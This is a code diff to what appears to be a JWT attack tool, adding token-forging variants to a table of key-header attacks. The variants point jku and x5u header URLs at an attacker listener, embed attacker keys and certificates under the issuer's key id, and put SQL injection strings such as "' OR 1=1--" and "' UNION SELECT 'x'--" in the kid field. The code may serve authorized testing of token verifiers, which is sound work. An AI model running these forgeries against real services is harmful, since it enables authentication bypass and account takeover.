@@ -38,6 +38,11 @@ class Forger:
         """The header with changes; None removes a member."""
         return {name: value for name, value in {**self.token.header, **changes}.items() if value is not None}
 
+    @property
+    def issuers_key_id(self) -> Mapping[str, Any]:
+        """The member `kid` of the token's header; nothing where it has none."""
+        return {name: value for name, value in self.token.header.items() if name == "kid"}
+
     def with_signature(self, header: Mapping[str, Any], signature: str, **claims: Any) -> str:
         return f"{unsigned(header, {**self.token.claims, **claims})}.{signature}"
 
@@ -87,12 +92,12 @@ ALGORITHMS: Mapping[str, Callable[[Forger], str]] = {
 }
 
 
-def _hint(name: str, of: Callable[[Listener], str]) -> Callable[[Forger], str]:
-    """A token with a URL of the listener in its header; the key id is no hint."""
+def _hint(name: str, of: Callable[[Listener], str], **changes: Any) -> Callable[[Forger], str]:
+    """A token with a URL of the listener in its header."""
 
     def forge(forger: Forger) -> str:
         assert forger.listener is not None
-        return forger.by_attacker(**{name: of(forger.listener), "kid": "attacker"})
+        return forger.by_attacker(**{name: of(forger.listener)}, **changes)
 
     return forge
 
@@ -105,11 +110,15 @@ KEY_HINTS: Mapping[str, Callable[[Forger], str]] = {
     "SQL as key id": lambda f: f.by_attacker(kid="' OR 1=1--"),
     "SQL as key id, its answer as secret": lambda f: f.by_secret(b"x", kid="' UNION SELECT 'x'--"),
     "a key id of 10,000 characters": lambda f: f.by_attacker(kid="k" * LONG),
-    "a URL of keys": _hint("jku", lambda listener: listener.jku),
-    "a URL of a certificate": _hint("x5u", lambda listener: listener.x5u),
+    "a URL of keys": _hint("jku", lambda listener: listener.jku, kid="attacker"),
+    "a URL of a certificate": _hint("x5u", lambda listener: listener.x5u, kid="attacker"),
     "a key": lambda f: f.by_attacker(kid=None, jwk=f.keys.jwk),
     "a key, and its id": lambda f: f.by_attacker(kid="attacker", jwk={**f.keys.jwk, "kid": "attacker"}),
     "a certificate": lambda f: f.by_attacker(kid=None, x5c=f.keys.x5c),
+    "a URL of keys, the issuer's key id": _hint("jku", lambda listener: listener.jku),
+    "a URL of a certificate, the issuer's key id": _hint("x5u", lambda listener: listener.x5u),
+    "a key, the issuer's key id": lambda f: f.by_attacker(jwk={**f.keys.jwk, **f.issuers_key_id}),
+    "a certificate, the issuer's key id": lambda f: f.by_attacker(x5c=f.keys.x5c),
     "a critical extension": lambda f: f.by_attacker(crit=["exp2"], exp2=1),
 }
 """By the attacker's key. The key id is the issuer's own where nothing else is said."""
